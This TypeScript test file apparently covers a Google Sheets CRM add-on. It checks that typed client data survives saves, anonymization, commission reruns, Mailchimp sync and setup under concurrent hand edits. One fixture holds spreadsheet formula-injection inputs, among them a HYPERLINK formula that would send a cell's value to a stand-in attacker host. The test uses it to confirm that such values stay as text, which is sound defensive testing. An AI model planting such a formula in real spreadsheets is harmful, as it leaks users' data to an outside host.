/**
 * Nothing the team typed is lost (decisions 001, 002 and 016): text stays text whatever the cells'
 * format, anonymize blanks the right client and all of it, commission reruns keep the team's
 * columns, the Mailchimp sync state lands on its client, Set up takes over no typed column. Each
 * case is a hand edit landing between two service calls (emu.at) or a format a colleague cleared.
 * Last, the property tests of anonymize and the Mailchimp sync (random hand sorts, inserts and
 * deletes at random calls; shared pieces in handEdits.ts, the other writers' properties in
 * writerProperties.test.ts). Run `npm run build` first.
 */
import { createEmulator, type Emulator, type StateSnapshot } from '../../emulator';
import fc from 'fast-check';
import { emptyClientRecord } from '../../src/shared/schemas';
import { TestWorkbook, workbook } from './harness';
import { API_KEY, AUDIENCE, FakeMailchimp, md5 } from './newsletterFake';
import {
  byHand,
  callLog,
  minus,
  scheduledEdits,
  underHandEdits,
  addTeamColumns,
} from './handEdits';
import { everyOrSample } from '../support/tier';

function save(wb: TestWorkbook, general: Partial<ReturnType<typeof emptyClientRecord>['general']>) {
  const record = emptyClientRecord(general.code ?? 'C1');
  Object.assign(record.general, general);
  return wb.run('formSave', { record, isNew: true });
}

describe('text stays text without the @ format', () => {
  const hostile = {
    code: 'C1',
    name: '=2+3',
    // Phone and a Canadian postal code have a format since decision 021: a code outside Canada is
    // kept as typed, so it carries the formula-looking text into a plain-text column.
    country: 'France',
    postalCode: '=HYPERLINK("https://evil.example/?"&B2;"x")',
    address: '0042',
    city: '2026-10-15',
    contact: "'t Hooft",
  };

  for (const cleared of [false, true]) {
    it(`a saved client keeps every field as typed (${cleared ? 'after Format › Clear formatting' : "columns still '@'"})`, () => {
      const wb = workbook({ locale: 'fr_CA' });
      if (cleared) byHand(wb.emu, (ss) => ss.getSheetByName('Clients')!.clearFormats());
      expect(save(wb, hostile)).toMatchObject({ ok: true });
      const [row] = wb.rows('Clients');
      expect(row).toMatchObject({
        'Code client': 'C1',
        Nom: '=2+3',
        'Code postal': hostile.postalCode,
        Adresse: '0042',
        Ville: '2026-10-15',
        Contact: "'t Hooft",
      });
      // Nothing became a formula.
      const sheet = wb.sheet('Clients');
      const formulas = sheet.getRange(2, 1, 1, sheet.getLastColumn()).getFormulas()[0]!;
      expect(formulas.filter((f) => f !== '')).toEqual([]);
    });
  }

  it('a client code that looks like a formula is refused, in both languages', () => {
    const wb = workbook({ locale: 'fr_CA' });
    const fr = save(wb, { code: '=2+3', name: 'X' });
    expect(fr).toMatchObject({ ok: false });
    expect(JSON.stringify(fr)).toContain('ne peut pas commencer par = + - ou @');
    const en = workbook({ locale: 'en_US' });
    const result = save(en, { code: '+33', name: 'X' });
    expect(JSON.stringify(result)).toContain('cannot start with = + - or @');
    expect(wb.rows('Clients')).toEqual([]);
  });
});

// ---------------------------------------------------------------- anonymize

const CLIENTS = ['C1', 'C2', 'C3', 'C4'];

/** Four clients, each with terms and CRM rows interleaved; team columns in Clients and CRM. */
function anonymizeFixture(): StateSnapshot {
  const wb = workbook({ locale: 'fr_CA' });
  byHand(wb.emu, (ss) => {
    addTeamColumns(ss, [
      ['Clients', 'Mobile'],
      ['Journal CRM', 'Pièce jointe'],
    ]);
  });
  wb.append(
    'Clients',
    CLIENTS.map((code, i) => ({
      'Code client': code,
      Nom: `Nom ${code}`,
      Courriel: `${code.toLowerCase()}@example.com`,
      Téléphone: `418 555-010${i}`,
      'Code postal': `G6V 1A${i}`,
      Besoins: `Besoins de ${code}`,
      Étiquettes: 'Bon client',
      Mobile: `581 555-010${i}`,
    })),
  );
  wb.append(
    'Termes',
    CLIENTS.map((code, i) => ({
      'Code client': code,
      'Limite de crédit': 1000 * (i + 1),
      'Remarques sur les factures': `Remarque ${code}`,
    })),
  );
  wb.append(
    'Journal CRM',
    [0, 1, 2].flatMap((n) =>
      CLIENTS.map((code) => ({
        'Code client': code,
        Date: `2026-10-0${n + 1}`,
        Nature: 'Discussion',
        De: `${code} de ${n}`,
        Détails: `Détails ${code} ${n}`,
        'Pièce jointe': `https://files.example/${code}/${n}`,
      })),
    ),
  );
  return wb.emu.snapshot();
}

function restored(state: StateSnapshot): TestWorkbook {
  const emu = createEmulator({ state, locale: 'fr_CA' });
  emu.loadBundle();
  return new TestWorkbook(emu);
}

/** Each sheet's rows of the other clients, as sorted JSON: they must not change at all. */
function others(wb: TestWorkbook, code: string): Record<string, string[]> {
  const out: Record<string, string[]> = {};
  for (const sheet of ['Clients', 'Termes', 'Journal CRM'])
    out[sheet] = wb
      .rows(sheet)
      .filter((r) => r['Code client'] !== code && r['Code client'] !== '')
      .map((r) => JSON.stringify(r))
      .sort();
  return out;
}

function anonymize(wb: TestWorkbook, code: string): void {
  wb.emu.ui.answerNextPrompt(code);
  wb.emu.ui.answerNextPrompt(code); // the code typed to confirm
  wb.run('anonymizeClient');
}

/** Hand edits that move rows: a reverse sort of every data row, or a row inserted at the top. */
function moveRows(emu: Emulator, how: number): void {
  byHand(emu, (ss) => {
    for (const name of ['Clients', 'Termes', 'Journal CRM']) {
      const sheet = ss.getSheetByName(name)!;
      if (sheet.getLastRow() < 3) continue;
      if (how % 2 === 0) {
        const range = sheet.getRange(2, 1, sheet.getLastRow() - 1, sheet.getLastColumn());
        range.setValues(range.getValues().reverse());
      } else sheet.insertRowBefore(2);
    }
  });
}

/**
 * For each setValues of a run: how many service calls lie between it and the last check read
 * before it (Sheet.getSheetValues). The window the README states: 0, the calls are adjacent.
 */
function windowBeforeWrites(log: readonly string[]): number[] {
  return log.flatMap((kind, i) => {
    if (kind !== 'Range.setValues') return [];
    const check = log.lastIndexOf('Sheet.getSheetValues', i);
    return [i - check - 1];
  });
}

describe('anonymize blanks the right client, all of it', () => {
  let fixture: StateSnapshot;
  let log: string[];
  beforeAll(() => {
    fixture = anonymizeFixture();
    const wb = restored(fixture);
    log = callLog(wb.emu, () => anonymize(wb, 'C2'));
  });

  it('blanks every cell of the client that is not a key, an amount or a computed figure', () => {
    const wb = restored(fixture);
    const before = others(wb, 'C2');
    anonymize(wb, 'C2');
    const confirm = wb.emu.ui.ofKind('prompt').at(-1)!.prompt; // the code is typed in it
    // Said before, sheet by sheet: what is blanked, what is kept.
    expect(confirm).toContain('« Clients » (1 ligne) — effacé : Nom, Type, Contact, Courriel');
    expect(confirm).toContain('Infolettre');
    expect(confirm).toMatch(/Étiquettes.*Mobile\. Gardé : Code client/);
    expect(confirm).toContain(
      '« Journal CRM » (3 lignes) — effacé : De, À, Cc, Objet, Détails, Pièce jointe',
    );
    const [c2] = wb.rows('Clients').filter((r) => r['Code client'] === 'C2');
    expect(c2).toMatchObject({
      Nom: 'Client anonymisé',
      Courriel: '',
      Téléphone: '',
      'Code postal': '',
      Étiquettes: '',
      Besoins: '',
      Mobile: '',
      'Modifié par': 'owner@example.com',
    });
    const crm = wb.rows('Journal CRM').filter((r) => r['Code client'] === 'C2');
    expect(crm.map((r) => [r.De, r.Détails, r['Pièce jointe'], r.Nature])).toEqual([
      ['', '', '', 'Discussion'],
      ['', '', '', 'Discussion'],
      ['', '', '', 'Discussion'],
    ]);
    expect(wb.rows('Termes').find((r) => r['Code client'] === 'C2')).toMatchObject({
      'Limite de crédit': 2000,
      'Remarques sur les factures': '',
    });
    expect(others(wb, 'C2')).toEqual(before);
  });

  it('rows sorted or inserted by hand at any service call: no other client is touched', () => {
    // The instant between the last check and the write call is the window left: a move
    // right before a setValues is not tried here (README, "Shared editing").
    const points = log
      .map((kind, i) => ({ kind, at: i + 1 }))
      .filter(({ kind }) => kind !== 'Range.setValues');
    expect(points.length).toBeGreaterThan(20);
    expect(windowBeforeWrites(log)).toEqual([0, 0, 0, 0, 0]);
    for (const { at } of everyOrSample(points)) {
      for (const how of [at % 2]) {
        const wb = restored(fixture);
        const before = others(wb, 'C2');
        wb.emu.at(/./, () => moveRows(wb.emu, how), { occurrence: at });
        let error: unknown;
        try {
          anonymize(wb, 'C2');
        } catch (e) {
          error = e;
        }
        const where = `move ${how} at call ${at} (${log[at - 1]})`;
        expect([where, others(wb, 'C2')]).toEqual([where, before]);
        if (error) expect(String(error)).toContain('occupé');
        else {
          const c2 = wb.rows('Clients').filter((r) => r['Code client'] === 'C2');
          expect([where, c2.map((r) => [r.Nom, r.Courriel, r.Mobile])]).toEqual([
            where,
            [['Client anonymisé', '', '']],
          ]);
          const crm = wb.rows('Journal CRM').filter((r) => r['Code client'] === 'C2');
          expect([where, crm.map((r) => r.Détails)]).toEqual([where, ['', '', '']]);
        }
      }
    }
  });
});

// ---------------------------------------------------------------- commission reruns

describe('recomputing commissions keeps the team’s own columns', () => {
  function commissionWorkbook(): TestWorkbook {
    const wb = workbook({ locale: 'fr_CA' });
    wb.addRecords('fr', 'clients', [
      { code: 'A', name: 'Alpha' },
      { code: 'B', name: 'Bêta' },
    ]);
    wb.addRecords('fr', 'commissions', [
      { clientCode: 'A', salesperson: 'Alice', commissionType: 'Ventes', ratePct: 10 },
      { clientCode: 'B', salesperson: 'Bob', commissionType: 'Ventes', ratePct: 5 },
    ]);
    wb.addRecords('fr', 'invoices', [
      { number: 'F1', date: '2026-10-05', clientCode: 'A', amount: 1000 },
      { number: 'F2', date: '2026-10-06', clientCode: 'A', amount: 500 },
      { number: 'F3', date: '2026-10-07', clientCode: 'B', amount: 800 },
    ]);
    wb.run('computeCommissions', '2026-10');
    // The team adds a column of its own to both sheets and writes notes in it.
    byHand(wb.emu, (ss) => {
      for (const name of ['Rapport des commissions', 'Détail des commissions']) {
        const sheet = ss.getSheetByName(name)!;
        sheet.insertColumnAfter(sheet.getLastColumn());
        sheet.getRange(1, sheet.getLastColumn() + 1).setValue('Note');
      }
    });
    const note = (sheet: string, match: (r: Record<string, unknown>) => boolean, text: string) => {
      const row = wb.rows(sheet).findIndex(match);
      wb.setCell(sheet, row + 2, 'Note', text);
    };
    note('Rapport des commissions', (r) => r.Vendeur === 'Alice', 'ask Paul');
    note('Rapport des commissions', (r) => r.Vendeur === 'Bob', "'0042"); // typed with Sheets' text mark
    note('Détail des commissions', (r) => r['No de facture'] === 'F1', 'vérifié');
    note('Détail des commissions', (r) => r['No de facture'] === 'F2', 'retour prévu');
    return wb;
  }

  it('notes stay with their row’s key when the month is rewritten; a line gone is reported with its note', () => {
    const wb = commissionWorkbook();
    // Invoices change: F1's amount, F2 deleted (a credit), F4 added; every row is rewritten.
    const invoices = wb.rows('Factures');
    wb.setCell(
      'Factures',
      invoices.findIndex((r) => r['No de facture'] === 'F1') + 2,
      'Montant',
      1200,
    );
    byHand(wb.emu, (ss) =>
      ss
        .getSheetByName('Factures')!
        .deleteRow(invoices.findIndex((r) => r['No de facture'] === 'F2') + 2),
    );
    wb.addRecords('fr', 'invoices', [
      { number: 'F4', date: '2026-10-20', clientCode: 'B', amount: 100 },
    ]);
    wb.emu.ui.answerNextPrompt('2026-10');
    wb.run('showCommissionReport');

    const report = wb.rows('Rapport des commissions');
    expect(report.map((r) => [r.Vendeur, r.Commission, r.Note])).toEqual([
      ['Alice', 120, 'ask Paul'],
      ['Bob', 45, '0042'],
    ]);
    const details = wb.rows('Détail des commissions');
    expect(details.map((r) => [r['No de facture'], r.Note]).sort()).toEqual([
      ['F1', 'vérifié'],
      ['F3', ''],
      ['F4', ''],
    ]);
    // F2's line is gone: its note is reported, text included, before it goes.
    const alert = wb.emu.ui.ofKind('alert').at(-1)!.prompt;
    expect(alert).toContain('retour prévu');
    expect(alert).toContain('Détail des commissions');
  });
});

// ---------------------------------------------------------------- Mailchimp sync state

describe('the Mailchimp sync state lands on its own client', () => {
  const CODES = ['N1', 'N2', 'N3', 'N4', 'N5'];
  let fixture: StateSnapshot;
  let log: string[];

  function member(code: string): Record<string, unknown> {
    return {
      'Code client': code,
      Nom: `Client ${code}`,
      Type: 'Particulier',
      Courriel: `${code.toLowerCase()}@example.com`,
      Infolettre: true,
      'Type de consentement': 'Exprès',
      'Date du consentement': '2025-06-01',
    };
  }

  function syncWith(wb: TestWorkbook): FakeMailchimp {
    const fake = new FakeMailchimp();
    wb.emu.setUrlFetchHandler(fake.handler);
    wb.run('syncMailchimp');
    return fake;
  }

  /** Each client's stored state names its own address's subscriber hash (or is blank). */
  function statesOnOwnRows(wb: TestWorkbook): string[] {
    return wb
      .rows('Clients')
      .filter((r) => r['Code client'] !== '')
      .flatMap((r) => {
        const state = String(r['Synchro Mailchimp'] ?? '');
        if (state === '') return [];
        const hash = md5(String(r.Courriel));
        return state.includes(hash) ? [] : [`${String(r['Code client'])}: ${state}`];
      });
  }

  beforeAll(() => {
    const wb = workbook({ locale: 'fr_CA' });
    wb.run('newsletterSettingsSave', { apiKey: API_KEY, audienceId: AUDIENCE });
    wb.append('Clients', CODES.map(member));
    fixture = wb.emu.snapshot();
    const probe = restored(fixture);
    log = callLog(probe.emu, () => syncWith(probe));
  });

  it('rows sorted or inserted by hand at any service call: every state stays on its client', () => {
    const points = log
      .map((kind, i) => ({ kind, at: i + 1 }))
      .filter(({ kind }) => kind !== 'Range.setValues');
    expect(points.length).toBeGreaterThan(5);
    expect(windowBeforeWrites(log)).toEqual([0]);
    for (const { at } of everyOrSample(points)) {
      const wb = restored(fixture);
      wb.emu.at(/./, () => moveRows(wb.emu, at), { occurrence: at });
      let error: unknown;
      try {
        syncWith(wb);
      } catch (e) {
        error = e;
      }
      const where = `move ${at % 2} at call ${at} (${log[at - 1]})`;
      expect([where, statesOnOwnRows(wb)]).toEqual([where, []]);
      if (error) expect(String(error)).toContain('occupé');
      else {
        const written = wb.rows('Clients').filter((r) => r['Synchro Mailchimp'] !== '');
        expect([where, written.length]).toEqual([where, CODES.length]);
      }
    }
  });

  it('an anonymized client: member deleted for good, and no later run writes its data back', () => {
    const wb = restored(fixture);
    const fake = syncWith(wb);
    const hash = md5('n2@example.com');
    expect(fake.members.has(hash)).toBe(true);
    wb.addRecords('fr', 'invoices', [
      { number: 'F1', date: '2026-10-05', clientCode: 'N2', amount: 100, productType: 'Services' },
    ]);
    anonymize(wb, 'N2');
    wb.emu.setUrlFetchHandler(fake.handler);
    wb.run('syncMailchimp');
    expect(fake.deleted).toEqual([hash]);
    wb.run('refreshBuyingHabits');
    wb.run('syncMailchimp');
    const n2 = wb.rows('Clients').find((r) => r['Code client'] === 'N2')!;
    expect(n2).toMatchObject({
      Nom: 'Client anonymisé',
      Courriel: '',
      'Synchro Mailchimp': '',
      'Habitudes calculées': '',
    });
    expect(fake.members.has(hash)).toBe(false);
  });
});

// ---------------------------------------------------------------- Set up on an existing workbook

describe('Set up never takes over a typed column or strands data', () => {
  /** A team's own workbook, before Set up: Termes with a typed "Solde dû" column. */
  function teamWorkbook(): TestWorkbook {
    const wb = workbook({ locale: 'fr_CA', setup: false });
    byHand(wb.emu, (ss) => {
      const terms = ss.insertSheet('Termes');
      terms.getRange(1, 1, 3, 3).setValues([
        ['Code client', 'Limite de crédit', 'Solde dû'],
        ['C1', 1000, 'ask Paul'],
        ['C2', 500, ''],
      ]);
    });
    return wb;
  }

  it('a typed column under a computed header is reported and left as is when the team says No', () => {
    const wb = teamWorkbook();
    wb.emu.ui.answerNextAlert('NO');
    expect(() => wb.run('setupWorkbook')).toThrow(/rien n’a été changé/);
    const question = wb.emu.ui.ofKind('alert').at(-1)!;
    expect(question.buttons).toBe('YES_NO');
    expect(question.prompt).toContain(
      '« Solde dû » dans « Termes » : 1 valeur(s) saisie(s), par ex. « ask Paul »',
    );
    // Nothing changed: no sheet added, no column protected, the typed value there.
    expect(wb.spreadsheet.getSheets().map((s) => s.getName())).not.toContain('Clients');
    expect(wb.header('Termes')).toEqual(['Code client', 'Limite de crédit', 'Solde dû']);
    expect(wb.rows('Termes')[0]!['Solde dû']).toBe('ask Paul');
    // Yes: taken over, as the team chose.
    wb.emu.ui.answerNextAlert('YES');
    wb.run('setupWorkbook');
    expect(wb.header('Clients')).toContain('Code client');
  });

  it('a header renamed "Code" is reported with what to do, and no empty key column is appended', () => {
    const wb = workbook({ locale: 'fr_CA', setup: false });
    byHand(wb.emu, (ss) => {
      const clients = ss.insertSheet('Clients');
      clients.getRange(1, 1, 3, 2).setValues([
        ['Code', 'Nom'],
        ['C1', 'Anne'],
        ['C2', 'Bruno'],
      ]);
    });
    wb.run('setupWorkbook');
    const header = wb.header('Clients');
    expect(header.filter((h) => h === 'Code client')).toEqual([]);
    expect(header.slice(0, 2)).toEqual(['Code', 'Nom']);
    const told = wb.emu.ui.ofKind('alert').at(-1)!.prompt;
    expect(told).toContain(
      '« Clients » : la colonne « Code client » manque, et « Code » semble être elle, renommée',
    );
    // Renamed as told, the next Set up adopts it: every row keeps its code.
    wb.setCell('Clients', 1, 'Code', 'Code client');
    wb.run('setupWorkbook');
    expect(wb.rows('Clients').map((r) => r['Code client'])).toEqual(['C1', 'C2']);
  });
});

// ---------------------------------------------------------------- property: random hand edits

describe('property: random hand sorts, inserts and deletes at any service call', () => {
  // Shared pieces (the edits scheduled at random calls, the window skipped, the error
  // captured): handEdits.ts; the other writers' properties: writerProperties.test.ts.
  it('anonymize: no other client’s cell changes, the client is blanked or the run says busy', () => {
    const fixture = anonymizeFixture();
    const probe = restored(fixture);
    const calls = callLog(probe.emu, () => anonymize(probe, 'C3')).length;
    fc.assert(
      fc.property(scheduledEdits(calls), (edits) => {
        const wb = restored(fixture);
        const before = others(wb, 'C3');
        const { error, deleted, inWindow } = underHandEdits(
          wb,
          edits,
          () => anonymize(wb, 'C3'),
          'C3',
        );
        // A move in the instant between the last check and setValues is the one window
        // left (README): such interleavings are skipped, not counted as passing.
        fc.pre(!inWindow);
        expect(others(wb, 'C3')).toEqual(minus(before, deleted));
        if (error) expect(String(error)).toContain('occupé');
        else
          for (const r of wb.rows('Clients').filter((r) => r['Code client'] === 'C3'))
            expect([r.Nom, r.Courriel, r.Mobile]).toEqual(['Client anonymisé', '', '']);
      }),
      { numRuns: 40 },
    );
  }, 120_000);

  it('Mailchimp sync: no typed cell changes and every state is on its own client’s row', () => {
    const wb0 = workbook({ locale: 'fr_CA' });
    wb0.run('newsletterSettingsSave', { apiKey: API_KEY, audienceId: AUDIENCE });
    wb0.append(
      'Clients',
      ['N1', 'N2', 'N3', 'N4', 'N5', 'N6'].map((code) => ({
        'Code client': code,
        Nom: `Client ${code}`,
        Type: 'Particulier',
        Courriel: `${code.toLowerCase()}@example.com`,
        Infolettre: true,
        'Type de consentement': 'Exprès',
        'Date du consentement': '2025-06-01',
        Besoins: `typed ${code}`,
      })),
    );
    const fixture = wb0.emu.snapshot();
    const sync = (wb: TestWorkbook) => {
      wb.emu.setUrlFetchHandler(new FakeMailchimp().handler);
      wb.run('syncMailchimp');
    };
    const probe = restored(fixture);
    const calls = callLog(probe.emu, () => sync(probe)).length;
    /** Clients rows without the computed sync column, as sorted JSON. */
    const typed = (rows: string[]) =>
      rows
        .map((j) => {
          const r = JSON.parse(j) as Record<string, unknown>;
          delete r['Synchro Mailchimp'];
          return JSON.stringify(r);
        })
        .sort();
    const clientsNow = (wb: TestWorkbook) =>
      wb
        .rows('Clients')
        .filter((r) => r['Code client'] !== '')
        .map((r) => JSON.stringify(r));
    fc.assert(
      fc.property(scheduledEdits(calls), (edits) => {
        const wb = restored(fixture);
        const before = clientsNow(wb);
        const { error, deleted, inWindow } = underHandEdits(wb, edits, () => sync(wb), '', [
          'Clients',
        ]);
        fc.pre(!inWindow);
        if (error) expect(String(error)).toContain('occupé');
        // Compared without the sync column: a row deleted after its state was written.
        const expected = minus(
          { Clients: typed(before) },
          { Clients: typed(deleted.Clients ?? []) },
        ).Clients!;
        expect(typed(clientsNow(wb))).toEqual(expected);
        // No state on another client's row: each names its own address's hash.
        const misplaced = wb.rows('Clients').filter((r) => {
          const state = String(r['Synchro Mailchimp'] ?? '');
          return state !== '' && !state.includes(md5(String(r.Courriel)));
        });
        expect(misplaced).toEqual([]);
      }),
      { numRuns: 40 },
    );
  }, 120_000);
});
